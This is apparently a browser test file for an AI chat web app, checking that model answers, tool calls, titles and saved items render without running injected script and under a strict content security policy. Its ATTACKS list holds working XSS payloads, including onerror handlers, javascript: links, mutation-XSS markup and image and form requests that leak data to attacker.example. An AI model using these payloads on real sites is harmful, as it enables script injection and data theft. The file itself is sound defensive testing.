// SPDX-License-Identifier: MIT
// Texts of the model, of tools and of people are not trusted: nothing of them
// runs, fetches or leads astray. open() fails a test for a dialog, a request
// elsewhere, and a word of the content security policy.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { api, ask, conversation, ended, openChat, script, send, shownId } from './browser.mjs';

const ATTACKS = [
	'<script>window.hit = 1; alert(1)</script>',
	'<img src=x onerror="window.hit = 2; alert(2)">',
	'<svg onload="window.hit = 3"><animate onbegin="window.hit = 3" /></svg>',
	'[click](javascript:window.hit=4) [b](JAVASCRIPT:alert(4)) ' +
		'[c](data:text/html,<script>alert(4)</script>) [d](vbscript:x)',
	'![pixel](https://attacker.example/pixel.png?q=secret)',
	'![pixel][p] <https://attacker.example/auto>\n\n[p]: //attacker.example/p.png',
	'<iframe src="https://attacker.example/"></iframe><object data="//attacker.example/">',
	'<link rel=stylesheet href=https://attacker.example/a.css><style>@import "//attacker.example"</style>',
	'<form action="https://attacker.example/"><button>Send</button></form>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">',
	'<base href="https://attacker.example/"><meta http-equiv=refresh content="0;url=//attacker.example">',
	'```"><img src=x onerror=alert(8)>\n</code></pre><img src=x onerror=alert(8)>\n```',
	'| <img src=x onerror=alert(9)> |\n|---|\n| <b onmouseover=alert(9)>x</b> |',
	'<a id="location" name="cookie" href="javascript:alert(10)">x</a><p style="position:fixed;inset:0">cover</p>',
];

/** What in the thread should not be there. */
function suspects(page)
{
	return page.evaluate(() => {
		const found = [];

		for (const el of document.querySelectorAll('lamp-app *')) {
			const name = el.localName;

			if (el.closest('lamp-markdown') && /^(?:script|img|svg|iframe|object|embed|link|style|form|input|base|meta|math|video|audio)$/.test(name))
				found.push(name);
			for (const { name: attr, value } of el.attributes) {
				if (/^on/i.test(attr) || (el.closest('.answer') && /^(?:style|id|name|src)$/.test(attr)))
					found.push(`${name} ${attr}`);
				if (attr === 'href' && !/^(?:https?:|#|mailto:)/.test(value))
					found.push(`${name} ${value}`);
			}
		}
		if (window.hit)
			found.push(`hit ${window.hit}`);
		return found;
	});
}

test('attacks in the text of an answer, streamed and stored', async (t) => {
	const page = await openChat(t);

	await send(page, script({ text: ATTACKS.join('\n\n'), rate: 400,
		reasoning: ATTACKS.join('\n') }));
	await ended(page);
	await page.click('.reasoning summary');
	assert.deepEqual(await suspects(page), []);
	for (const link of await page.locator('.answer a').all()) {
		assert.match(await link.getAttribute('rel'), /noopener noreferrer/);
		assert.equal(await link.getAttribute('target'), '_blank');
	}
	// it is shown as what it is
	assert.match(await page.locator('.answer').innerText(), /<script>window.hit = 1/);
	await page.reload();
	await ended(page);
	assert.deepEqual(await suspects(page), []);
});

test('an attack cut into single letters', async (t) => {
	const page = await openChat(t);
	const text = ATTACKS.slice(0, 5).join('\n\n');

	// a script's token is a word: the stream is rewritten letter by letter
	await page.route('**/stream', async (route) => {
		const response = await route.fetch();
		const body = (await response.text()).replace(
			/event: token\nid: \d+\ndata: (.*)\n\n/g, (whole, data) =>
				[...JSON.parse(data).delta].map((delta) =>
					`event: token\ndata: ${JSON.stringify({ delta })}\n\n`).join(''));

		await route.fulfill({ response, body });
	});
	await send(page, script({ text }));
	await ended(page);
	assert.deepEqual(await suspects(page), []);
	assert.equal((await api('GET', `conversations/${shownId(page)}/messages`))
		.items[0].content, text);
});

test('attacks in titles, questions, and arguments and results of tools', async (t) => {
	const page = await openChat(t);

	await ask(page, script({ tool_calls: [
		{ name: 'query_data', args: { dataset: ATTACKS[1], select: [ATTACKS[0]] } },
		{ name: ATTACKS[1].slice(0, 30), args: { [ATTACKS[2]]: ATTACKS[3] } }],
	narration: ATTACKS.join('\n\n'), then: { text: ATTACKS[1] } }));
	for (const summary of await page.locator('lamp-tool summary').all())
		await summary.click();
	assert.deepEqual(await suspects(page), []);
	const id = await conversation(ATTACKS[1]);

	await page.evaluate((hash) => { location.hash = hash; }, `#/c/${id}`);
	await page.waitForFunction((title) =>
		document.querySelector('.main-title h1').textContent === title, ATTACKS[1]);
	await page.locator('.main-head').getByRole('button', { name: /Actions/ }).click();
	await page.getByRole('menuitem', { name: 'Delete' }).click();
	await page.waitForSelector('dialog[open]');
	assert.deepEqual(await suspects(page), []);
	await page.getByRole('button', { name: 'Delete', exact: true }).click();
	await page.waitForSelector('.empty');
});

test('the page and the server both have a strict policy', async (t) => {
	const page = await openChat(t);
	const response = await page.reload();
	const policy = response.headers()['content-security-policy'];
	const own = await page.locator('meta[http-equiv=Content-Security-Policy]')
		.getAttribute('content');

	for (const text of [policy, own]) {
		assert.match(text, /default-src 'none'/);
		assert.match(text, /script-src 'self'(?:;|$)/);
		assert.doesNotMatch(text, /unsafe|https?:|\*/);
	}
	assert.match(policy, /frame-ancestors/);
	await page.waitForSelector('.composer-field');
});

test('attacks in the names of folders, tags, agents, projects, documents and memories', async (t) => {
	const name = '<img src=x onerror="window.hit=1">"\'>{{x}}';
	const text = ATTACKS.join('\n\n');
	const made = [];
	const make = async (path, body, id = 'id') => {
		const one = await api('POST', path, body);

		made.push(`${path}/${one[id]}`);
		return one;
	};

	t.after(async () => {
		for (const path of made.reverse())
			await api('DELETE', path, undefined, { 'If-Match': '*' });
	});
	const folder = await make('conversation-folders', { name });
	const { conversationId } = await make('conversations', { workspaceId: 'intranet', agentId: 'assistant',
		title: name }, 'conversationId');
	const agent = await make('workspaces/intranet/agents', { name, description: name, userPrompt: name,
		systemPrompt: text }, 'agentId');
	const project = await make('projects', { name, description: text });
	const base = await make('knowledge-bases', { name, description: name });

	await api('POST', `knowledge-bases/${base.id}/documents`, { title: name, text });
	await make('prompts', { name, description: name, body: `${text} {{${name.replace(/[{}]/g, '')}}}` });
	await make('memories', { text: name });
	await api('PATCH', `conversations/${conversationId}`, { folderId: folder.id, tags: [name.slice(0, 40)] });
	const page = await openChat(t, { hash: `#/c/${conversationId}` });
	const clean = async (where) => assert.deepEqual(await suspects(page), [], where);

	await page.waitForFunction((title) => document.querySelector('.main-title h1').textContent === title, name);
	await page.locator('.folder-button').first().click();
	await page.locator('.main-head').getByRole('button', { name: /Actions/ }).click();
	await page.getByRole('menuitem', { name: 'Folder and tags…' }).click();
	await page.waitForSelector('dialog[open]');
	await clean('folder and tags');
	await page.keyboard.press('Escape');
	await page.locator('.composer-field').fill('@<img');
	await page.locator('.composer-field').press('End');
	await clean('mentions');
	await page.locator('.composer-field').fill('');
	for (const place of ['agents', `agents/${agent.agentId}`, 'prompts', 'projects', `projects/${project.id}`,
		'knowledge-bases', `knowledge-bases/${base.id}`, 'memories']) {
		await page.evaluate((hash) => { location.hash = hash; }, `#/${place}`);
		await page.waitForFunction((wanted) => document.querySelector('.main').textContent.includes(wanted) ||
			[...document.querySelectorAll('.main :is(input, textarea)')].some((one) =>
				/** @type {HTMLInputElement} */ (one).value.includes(wanted)), name);
		await clean(place);
	}
	await page.evaluate(() => { location.hash = '#/'; });
	await page.locator('.composer-bar select').selectOption(agent.agentId);
	await page.locator('.suggestion').filter({ hasText: 'onerror' }).waitFor();
	await clean('a new chat');
});
